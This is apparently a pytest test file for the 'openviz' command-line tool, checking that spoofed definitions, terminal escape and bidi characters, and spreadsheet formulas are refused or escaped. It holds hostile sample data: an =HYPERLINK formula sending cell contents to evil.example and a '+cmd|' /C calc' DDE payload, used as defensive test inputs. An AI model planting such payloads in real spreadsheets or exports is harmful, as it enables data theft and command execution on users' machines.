"""Hostile and faulty input on the command line: nothing spoofed, nothing raw on the terminal.

Each case runs ``openviz`` as a user would, on the ``mini`` catalogue plus files written
here, and names a fragment the output must hold and the exit code. Data-file cases (a
problem with a ``file:line``) live in the ``tests/bad_inputs`` corpus; these are the ones
about what reaches the terminal, what a spreadsheet would run, and command-line choices.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

import openviz
from openviz.authoring import save_definition
from openviz.cli import main
from openviz.tables import text_table

HERE = Path(__file__).resolve().parent
MINI = HERE / "fixtures" / "mini"
INDEX = HERE / "fixtures" / "osai-index"

# What a terminal would act on: C0 and C1 controls (line breaks and tabs are layout),
# bidirectional controls and zero-width characters.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Llama 3")'
HOSTILE_MODEL = f"""\
id: hostile
name: '{HYPERLINK}'
family: test
organisation: "@SUM(1+1)"
release_date: "2024-01-01"
modality: text
stage: base
components:
  final-parameters:
    status: "yes"
    license: Apache-2.0
    notes: "+cmd|' /C calc'!A0"
    evidence:
      - url: https://example.org/weights
        shows: '=HYPERLINK("https://evil.example","The page links the weights")'
        accessed: "2025-01-01"
"""


@pytest.fixture
def files(tmp_path: Path) -> dict[str, str]:
    """Write the hostile inputs once per test; return name -> path."""
    out = {}
    (tmp_path / "hostile.yaml").write_text(HOSTILE_MODEL, encoding="utf-8")
    out["hostile"] = str(tmp_path / "hostile.yaml")
    # A copy of the published `strict`, quietly loosened: it must not pass for the original.
    spoof = tmp_path / "spoof" / "strict.yaml"
    spoof.parent.mkdir()
    text = (MINI / "definitions" / "strict.yaml").read_text(encoding="utf-8")
    spoof.write_text(
        text.replace("licenses: [osi-approved]}", "licenses: [osi-approved, use-restricted]}"),
        "utf-8",
    )
    out["spoof"] = str(spoof)
    # Another id, but the published name: it would read as the original in every caption.
    renamed = tmp_path / "renamed" / "my-strict.yaml"
    renamed.parent.mkdir()
    renamed.write_text(spoof.read_text("utf-8").replace("id: strict", "id: my-strict"), "utf-8")
    out["spoof name"] = str(renamed)
    out["escape name"] = str(tmp_path / "evil\x1b[2J\x1b]8;;evil.example\x07.yaml")
    Path(out["escape name"]).write_text("id: [", encoding="utf-8")
    out["bidi name"] = str(tmp_path / "model\u202egpj.yaml")
    Path(out["bidi name"]).write_text("id: [", encoding="utf-8")
    out["escape out"] = str(tmp_path / "chart\x1b[31m.csv")
    out["missing catalog"] = str(tmp_path / "no\x1b[2Jsuch")
    models_file = tmp_path / "models-file"
    shutil.copytree(MINI, models_file)
    shutil.rmtree(models_file / "models")
    (models_file / "models").write_text("not a folder\n", encoding="utf-8")
    out["models file"] = str(models_file)
    index = tmp_path / "index"
    shutil.copytree(INDEX, index)
    shutil.copy(index / "OLMo.yaml", index / "OLMo (copy).yaml")
    out["index"] = str(index)
    return out


# (case, argv with {name} for the files above, fragment expected, where, exit code)
CASES = [
    # A user's definition with a published id is refused wherever it comes in.
    (
        "--add with a published definition's id",
        ["list", "definitions", "--add", "{spoof}"],
        "'strict' is the id of the published definition strict",
        "err",
        2,
    ),
    (
        "--definition-file with a published id",
        ["evaluate", "--definition-file", "{spoof}"],
        "a definition of your own cannot take its place",
        "err",
        2,
    ),
    (
        "a definition file given to explain",
        ["explain", "all-open", "{spoof}"],
        "'strict' is the id of the published definition strict",
        "err",
        2,
    ),
    (
        "--add with a published definition's name",
        [
            "export",
            "verdict-matrix",
            "--add",
            "{spoof name}",
            "-d",
            "my-strict",
            "--out",
            "{escape out}",
        ],
        "my-strict.yaml:2: name: 'Everything open and unrestricted' is the name of the published",
        "err",
        2,
    ),
    (
        "validate a copy of a published definition",
        ["validate", "{spoof}"],
        "'strict' is the id of the published definition strict",
        "err",
        2,
    ),
    # Nothing from a file name acts on the terminal.
    ("ESC in a file name", ["validate", "{escape name}"], "evil\\x1b[2J\\x1b]8;;", "err", 2),
    (
        "bidi override in a file name",
        ["validate", "{escape name}", "{bidi name}"],
        "model\\u202egpj",
        "err",
        2,
    ),
    (
        "ESC in a --catalog folder name",
        ["list", "models", "--catalog", "{missing catalog}"],
        "no\\x1b[2Jsuch",
        "err",
        2,
    ),
    (
        "ESC in a model id",
        ["explain", "\x1b[2Jall-open", "strict"],
        "unknown model '\\x1b[2Jall-open'",
        "err",
        2,
    ),
    (
        "ESC in an --out file name",
        ["export", "verdict-matrix", "-d", "strict", "--out", "{escape out}"],
        "chart\\x1b[31m.csv",
        "out",
        0,
    ),
    # Every CSV a spreadsheet could open keeps formulas as text.
    (
        "list --format csv",
        ["list", "models", "--add", "{hostile}", "--format", "csv"],
        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Llama 3"")",test,test,\'@SUM(1+1),',
        "out",
        0,
    ),
    (
        "explain --format csv",
        ["explain", "hostile", "strict", "--add", "{hostile}", "--format", "csv"],
        ",'+cmd|' /C calc'!A0,",
        "out",
        0,
    ),
    (
        "explain --format csv, evidence text",
        ["explain", "hostile", "strict", "--add", "{hostile}", "--format", "csv"],
        '"\'=HYPERLINK(""https://evil.example"",',
        "out",
        0,
    ),
    (
        "consensus --format csv",
        ["consensus", "--add", "{hostile}", "--format", "csv"],
        "hostile,\"'=HYPERLINK(",
        "out",
        0,
    ),
    (
        "unknowns --format csv",
        ["unknowns", "--add", "{hostile}", "--format", "csv"],
        "hostile,\"'=HYPERLINK(",
        "out",
        0,
    ),
    # Choices that used to be accepted and ignored.
    (
        "unknown --collection for list",
        ["list", "models", "--collection", "curatd"],
        "unknown collection 'curatd'; known: curated, mot, osai-index, all",
        "err",
        2,
    ),
    (
        "unknown --collection for evaluate",
        ["evaluate", "--collection", "nope"],
        "unknown collection 'nope'; known: curated",
        "err",
        2,
    ),
    (
        "unknown --collection for crosscheck",
        ["crosscheck", "--collection", "nope"],
        "unknown collection 'nope'",
        "err",
        2,
    ),
    (
        "crosscheck of curated against itself",
        ["crosscheck", "--collection", "all"],
        "choose one of mot, osai-index",
        "err",
        2,
    ),
    (
        "explain with a toggle for another definition",
        ["explain", "all-open", "strict", "-t", "ladder:bronze-all=off"],
        "--toggle 'ladder:bronze-all=off' aims at 'ladder', which this command does not use",
        "err",
        2,
    ),
    (
        "evaluate with a toggle for another definition",
        ["evaluate", "-d", "strict", "-t", "ladder:bronze-all=off"],
        "aims at 'ladder', which this command does not use (it uses strict)",
        "err",
        2,
    ),
    (
        "licences toggled on a condition (explain)",
        ["explain", "all-open", "strict", "-t", "free-use=licenses:osi-approved"],
        "'free-use' is a condition, and licence categories apply only to component",
        "err",
        2,
    ),
    (
        "licences toggled on a condition (evaluate)",
        ["evaluate", "-d", "strict", "-t", "strict:free-use=licenses:osi-approved"],
        "'free-use' is a condition",
        "err",
        2,
    ),
    (
        "licences toggled on a group",
        ["evaluate", "-d", "strict", "-t", "all=licenses:osi-approved"],
        "'all' is a group",
        "err",
        2,
    ),
    (
        "models is a file, not a folder",
        ["validate", "--catalog", "{models file}"],
        "models: (file): 'models' is a file, not a folder",
        "err",
        2,
    ),
    (
        "one EU index release in two files",
        ["import", "osai-index", "{index}"],
        "the same release as",
        "err",
        0,
    ),
]


@pytest.mark.parametrize(
    ("argv", "fragment", "where", "code"),
    [c[1:] for c in CASES],
    ids=[c[0] for c in CASES],
)
def test_hostile_command_lines(argv, fragment, where, code, files, capsys):
    args = [a.format_map(files) if "{" in a else a for a in argv]
    if "--catalog" not in args:
        args += ["--catalog", str(MINI)]
    got = main(args)
    out, err = capsys.readouterr()
    assert got == code, err
    assert fragment in (out if where == "out" else err)
    assert "Traceback" not in err and "internal error" not in err
    assert not RAW.search(out + err), "a control, bidi or zero-width character reached the terminal"
    if code == 2:
        assert out == "" or args[0] == "import"


def test_the_spoofed_definition_never_reaches_a_chart(files, tmp_path, capsys):
    out = tmp_path / "m.json"
    code = main(
        [
            "export",
            "verdict-matrix",
            "--catalog",
            str(MINI),
            "--add",
            files["spoof"],
            "--out",
            str(out),
        ]
    )
    assert code == 2
    assert not out.exists()
    assert (
        "strict.yaml:1: id: 'strict' is the id of the published definition"
        in capsys.readouterr().err
    )


def test_text_tables_show_escapes_instead_of_acting_on_the_terminal():
    frame = pd.DataFrame(
        {"name": ["\x1b[2Jclear", "a\rb", "Llama\u202e3", "zero\u200bwidth"], "n": [1, 2, 3, 4]}
    )
    table = text_table(frame)
    assert not RAW.search(table)
    for shown in ("\\x1b[2Jclear", "a\\rb", "Llama\\u202e3", "zero\\u200bwidth"):
        assert shown in table


def test_problem_lines_show_escapes_in_file_and_field_names():
    problem = openviz.Problem("x\x1b[2J.yaml", 3, "components.a\u202eb", "bad\nthing", "ok\x9b")
    text = str(problem)
    assert text == "x\\x1b[2J.yaml:3: components.a\\u202eb: bad\\nthing (expected ok\\x9b)"


@pytest.mark.parametrize(
    ("filename", "options", "fragment"),
    [
        ("my def.yaml", {}, "id: 'my def' is not in the required format"),
        ("MyDef.yaml", {}, "id: 'MyDef' is not in the required format"),
        ("我的定义.yaml", {}, "id: '我的定义' is not in the required format"),
        ("long-name.yaml", {"name": "x" * 300}, "name: 'xxxx"),
        ("fine.yaml", {"name": "Bad\x1b[2J name"}, "name: the text holds control character U+001B"),
    ],
)
def test_save_definition_refuses_what_validate_would_reject(filename, options, fragment, tmp_path):
    catalog = openviz.load_catalog(MINI)
    target = tmp_path / filename
    with pytest.raises(openviz.CatalogError) as info:
        save_definition(catalog.definition("strict"), target, catalog=catalog, **options)
    assert fragment in str(info.value)
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_save_definition_refuses_a_published_id_and_writes_what_validate_accepts(tmp_path, capsys):
    catalog = openviz.load_catalog(MINI)
    loose = catalog.definition("strict").with_toggles({"code": "off"})
    with pytest.raises(ValueError, match="'strict' is the id of the published definition"):
        save_definition(loose, tmp_path / "strict.yaml", catalog=catalog)
    assert not (tmp_path / "strict.yaml").exists()
    written = save_definition(loose, tmp_path / "my-strict.yaml", catalog=catalog)
    assert main(["validate", "--catalog", str(MINI), str(written)]) == 0
    assert capsys.readouterr().out == "OK: 1 file valid\n"


def test_an_import_removes_unsafe_characters_and_its_records_load(tmp_path, capsys):
    index = tmp_path / "index"
    shutil.copytree(INDEX, index)
    olmo = index / "OLMo.yaml"
    text = olmo.read_text(encoding="utf-8")
    text = text.replace(
        "endmodelname: Olmo-3.1-32B-Think", 'endmodelname: "Olmo\\e[2J-3.1\\u202e-32B"'
    )
    text = text.replace("    name: Ai2", '    name: "Ai\\u200b2"')
    # A link no reader could follow: the record cites the index's own file instead.
    text = re.sub(r"link: https?://\S+", "link: http://localhost:8888/x", text, count=1)
    olmo.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["import", "osai-index", str(index), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "osai-olmo: removed control, bidi or invisible characters from name, organisation" in err
    assert main(["validate", str(out)]) == 0, capsys.readouterr().err
    assert "localhost" not in (out / "osai-olmo.yaml").read_text(encoding="utf-8")
    record = openviz.read_release(out / "osai-olmo.yaml")
    # The characters go; the harmless text around them stays.
    assert (record.name, record.organisation) == ("Olmo[2J-3.1-32B", "Ai2")


def test_escaped_json_output_is_still_the_same_json():
    import json

    from openviz._safe_text import visible

    value = {"name": "a\x1b[2J\x9b\u202eb\\\u200bc", "n": 1, "zh": "开源"}
    text = visible(json.dumps(value, ensure_ascii=False, indent=2), keep="\n", json=True)
    assert not RAW.search(text)
    assert "开源" in text
    assert json.loads(text) == value
